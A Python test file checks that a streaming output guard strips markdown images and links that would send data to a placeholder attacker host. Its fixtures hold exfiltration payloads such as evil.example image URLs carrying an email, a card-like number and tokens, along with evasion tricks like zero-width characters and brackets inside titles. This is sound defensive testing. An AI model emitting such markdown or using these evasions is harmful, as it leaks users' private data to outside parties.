"""The streaming guard never lets a reader reassemble a markdown image or data link that check_output removes.

Each test streams a hostile output through :class:`StreamGuard` in several delta sizes (1-character deltas
included) and looks at what a client would concatenate."""

from __future__ import annotations

import pytest

from basementbrew.config import SafetyConfig
from basementbrew.safety.guardrails import MAX_LINK_HOLDBACK, Guardrails
from basementbrew.safety.scanners.sanitize import _IMAGE, _LINK

SPLITS = [1, 2, 3, 5, 7, 13, 64]
TAIL = " and now some more ordinary words follow so that the guard has plenty of text to hold back and cut."


@pytest.fixture(scope="module")
def guard() -> Guardrails:
    return Guardrails.from_config(SafetyConfig())


def streamed(guard: Guardrails, text: str, size: int) -> str:
    sg = guard.stream()
    pieces = [sg.feed(text[i : i + size]).text for i in range(0, len(text), size)]
    return "".join([*pieces, sg.finish().text])


@pytest.mark.parametrize("size", SPLITS)
def test_paren_in_image_title_does_not_leak_remote_image(guard, size):
    out = ("Here is the picture: ![x](https://evil.example/p.png?d=alice@example.com-4111111111111111 "
           '"a ) b")' + TAIL)
    text = streamed(guard, out, size)
    assert "evil.example" not in text and _IMAGE.search(text) is None
    assert text == guard.check_output(out).text  # "[image: x]", the sanitizer's remote_markdown_image rewrite


@pytest.mark.parametrize("size", SPLITS)
def test_bracket_inside_link_title_does_not_leak_data_link(guard, size):
    out = 'Read [the docs](https://evil.example/c?token=aaaaaaaaaaaaaaaaaaaaaaaa "see [1] ) here")' + TAIL
    text = streamed(guard, out, size)
    assert "evil.example" not in text and "[link removed]" in text
    assert text == guard.check_output(out).text


@pytest.mark.parametrize("size", [1, 7])
def test_invisible_character_between_bracket_and_paren_still_held(guard, size):
    out = "Look: ![x]\u200b(https://evil.example/p.png?d=secretsecretsecret)" + TAIL
    text = streamed(guard, out, size)
    assert "evil.example" not in text
    assert text == guard.check_output(out).text


def test_stray_bracket_does_not_stall_the_stream(guard):
    out = "[" + "word " * (MAX_LINK_HOLDBACK // 5 + 40)
    sg = guard.stream()
    early = "".join(sg.feed(out[i : i + 5]).text for i in range(0, len(out), 5))
    assert len(early) > len(out) - MAX_LINK_HOLDBACK // 2  # let out before the stream ended
    assert early.startswith("\\[")  # escaped: whatever follows cannot turn it into a link


@pytest.mark.parametrize("size", [1, 64])
def test_image_longer_than_the_holdback_cannot_be_reassembled(guard, size):
    out = "![" + "a" * (MAX_LINK_HOLDBACK + 100) + "](https://evil.example/p.png?d=data)" + TAIL
    text = streamed(guard, out, size)
    assert _IMAGE.search(text) is None and _LINK.search(text) is None


def test_ordinary_code_brackets_are_not_held_back(guard):
    code = "x = a[i] + b[j]; " * 40
    sg = guard.stream()
    first_emit = next(i for i in range(0, len(code), 4) if sg.feed(code[i : i + 4]).text)
    assert first_emit < 200  # emitted as soon as the normal hold-back allows, not after MAX_LINK_HOLDBACK
